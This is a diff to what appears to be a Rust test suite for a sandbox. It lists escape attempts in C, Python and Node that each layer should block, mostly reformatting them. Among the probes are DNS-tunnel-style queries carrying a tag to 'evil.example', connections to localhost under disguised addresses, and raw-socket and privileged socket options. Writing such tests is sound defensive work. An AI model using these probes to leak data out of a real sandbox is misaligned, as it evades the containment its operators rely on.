@@ -2,12 +2,12 @@
 
 use crate::attempt::Effect::{Done, Heard, Told};
 use crate::attempt::{Class, c, node, py, unknown};
-use sandbox::Layer::{self, Account, Calls, Files, Group, Landlock, Limits, Network, Objects, Privileges, Processes, Proc, Sockets, User};
+use sandbox::Layer::{self, Account, Calls, Files, Group, Landlock, Limits, Network, Objects, Privileges, Proc, Processes, Sockets, User};
 
 const FOLDERS: &[Layer] = &[Files, Landlock];
 const NETWORK: &[Layer] = &[Network, Sockets];
 const ABSTRACT: &[Layer] = &[Network, Landlock, Sockets];
-const OBJECTS: &[Layer] = &[Objects, Account, User, Calls];
+const OBJECTS: &[Layer] = &[Objects, Account, Calls];
 const RAW: &[Layer] = &[Calls, Privileges, Account, User, Processes, Network, Sockets, Objects, Proc];
 /// Only root has rights to lose.
 const ENTITLED: &[Layer] = &[Privileges, Account, User, Processes, Network, Objects, Proc];
@@ -92,17 +92,37 @@ pub(crate) const DIRECT: Class = Class {
         node("connects by a number", Heard, NETWORK, "await stream({ host: '2130706433', port: TCP }, TAG)"),
         py("connects over version 6", Heard, NETWORK, "stream(socket.AF_INET6, ('::1', TCP6), TAG.encode())").where_possible(),
         c("connects to a mapped address", Heard, NETWORK, r#"put(to(AF_INET6, SOCK_STREAM, "::ffff:127.0.0.1", TCP));"#).where_possible(),
-        c("connects at the first byte", Heard, NETWORK, r#"struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(TCP), .sin_addr = {htonl(0x7f000001)}}; int fd = socket(AF_INET, SOCK_STREAM, 0); if (sendto(fd, tag, strlen(tag), MSG_FASTOPEN, (void *)&at, sizeof at) < 0) say(strerror(errno)); close(fd);"#),
+        c(
+            "connects at the first byte",
+            Heard,
+            NETWORK,
+            r#"struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(TCP), .sin_addr = {htonl(0x7f000001)}}; int fd = socket(AF_INET, SOCK_STREAM, 0); if (sendto(fd, tag, strlen(tag), MSG_FASTOPEN, (void *)&at, sizeof at) < 0) say(strerror(errno)); close(fd);"#,
+        ),
         py("sends a datagram", Heard, NETWORK, "datagram(socket.AF_INET, ('127.0.0.1', UDP), TAG.encode())"),
         node("sends a datagram in its own way", Heard, NETWORK, "await datagram('udp4', UDP, '127.0.0.1', TAG)"),
         c("sends a datagram over version 6", Heard, NETWORK, r#"put(to(AF_INET6, SOCK_DGRAM, "::ffff:127.0.0.1", UDP));"#).where_possible(),
         node("asks for a page", Heard, NETWORK, "await page({ host: '127.0.0.1', port: TCP, path: '/' + TAG })"),
-        node("fetches", Heard, NETWORK, "await Promise.race([fetch(`http://127.0.0.1:${TCP}/${TAG}`).catch(fault => say(fault.cause.code)), soon(() => {})])"),
+        node(
+            "fetches",
+            Heard,
+            NETWORK,
+            "await Promise.race([fetch(`http://127.0.0.1:${TCP}/${TAG}`).catch(fault => say(fault.cause.code)), soon(() => {})])",
+        ),
         py("asks a name server outside", Heard, NETWORK, "datagram(socket.AF_INET, ('127.0.0.1', UDP), question(TAG + '.evil.example'))"),
-        py("asks a name server outside over TCP", Heard, NETWORK, "q = question(TAG + '.evil.example'); stream(socket.AF_INET, ('127.0.0.1', TCP), struct.pack('>H', len(q)) + q)"),
+        py(
+            "asks a name server outside over TCP",
+            Heard,
+            NETWORK,
+            "q = question(TAG + '.evil.example'); stream(socket.AF_INET, ('127.0.0.1', TCP), struct.pack('>H', len(q)) + q)",
+        ),
         py("waits at a port", Told, NETWORK, "waits(socket.socket(socket.AF_INET), ('127.0.0.1', BACK))"),
         py("waits for datagrams", Told, NETWORK, "waits(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), ('127.0.0.1', BACK))"),
-        node("serves pages to the host", Told, NETWORK, "await soon(resolve => { const one = net.createServer(other => { other.on('data', text => { say(text); one.close(); resolve(); }); other.on('error', () => {}); }); one.on('error', fault => { say(fault.code); resolve(); }); one.listen(BACK, '127.0.0.1'); setTimeout(() => one.close(), 2500); })"),
+        node(
+            "serves pages to the host",
+            Told,
+            NETWORK,
+            "await soon(resolve => { const one = net.createServer(other => { other.on('data', text => { say(text); one.close(); resolve(); }); other.on('error', () => {}); }); one.on('error', fault => { say(fault.code); resolve(); }); one.listen(BACK, '127.0.0.1'); setTimeout(() => one.close(), 2500); })",
+        ),
     ],
 };
 
@@ -124,7 +144,19 @@ pub(crate) const SOCKETS: Class = Class {
         c("speaks to the keys of networks", Done, &[Calls], "asked(15, SOCK_RAW, 2);"),
         c("speaks to a bus of a car", Done, &[Calls], "asked(29, SOCK_RAW, 1);"),
         c("has packets past the kernel", Done, &[Calls], "asked(44, SOCK_RAW, 0);"),
-        c("marks its packets", Done, ENTITLED, "int mark = 7; done(setsockopt(socket(AF_INET, SOCK_DGRAM, 0), SOL_SOCKET, SO_MARK, &mark, 4) == 0);").where_possible(),
-        c("takes any address as its own", Done, ENTITLED, "int yes = 1; done(setsockopt(socket(AF_INET, SOCK_DGRAM, 0), IPPROTO_IP, 19, &yes, 4) == 0);").where_possible(),
+        c(
+            "marks its packets",
+            Done,
+            ENTITLED,
+            "int mark = 7; done(setsockopt(socket(AF_INET, SOCK_DGRAM, 0), SOL_SOCKET, SO_MARK, &mark, 4) == 0);",
+        )
+        .where_possible(),
+        c(
+            "takes any address as its own",
+            Done,
+            ENTITLED,
+            "int yes = 1; done(setsockopt(socket(AF_INET, SOCK_DGRAM, 0), IPPROTO_IP, 19, &yes, 4) == 0);",
+        )
+        .where_possible(),
     ],
 };
